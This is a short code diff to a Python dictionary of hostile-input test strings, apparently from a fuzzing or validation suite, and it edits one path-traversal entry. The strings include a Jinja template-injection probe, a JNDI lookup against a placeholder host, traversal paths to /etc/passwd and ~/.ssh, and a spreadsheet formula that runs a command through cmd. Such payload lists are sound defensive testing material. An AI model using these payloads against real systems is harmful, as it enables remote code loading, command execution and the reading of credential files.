@@ -172,7 +172,7 @@ _SHAPES = {
     "templates of Jinja": "{{ 7*7 }}{% for x in y %}{# c #}{{ config }}{% endfor %}",
     "replacements of patterns": "\\n \\1 \\g<0> \\x1b \\u202e \\ \\\\ $1 $& ^$",
     "a lookup": "${jndi:ldap://x.invalid/a}",
-    "paths": "../../../../etc/passwd\n/dev/stdin\nC:\\Windows\\..\\x\n~/.ssh\nfile:%2f%2f/etc/passwd",
+    "paths": "../../../../etc/passwd\n/dev/stdin\nC:\\Windows\\..\\x\n~/.ssh\nfile:%2f%2f/etc/pass",
     "a formula": "=1+1",
     "a formula that calls": "=cmd|' /C calc'!A0",
     "a formula after a quotation mark": '"=1+1"\t=2+2\n=3+3;@x',
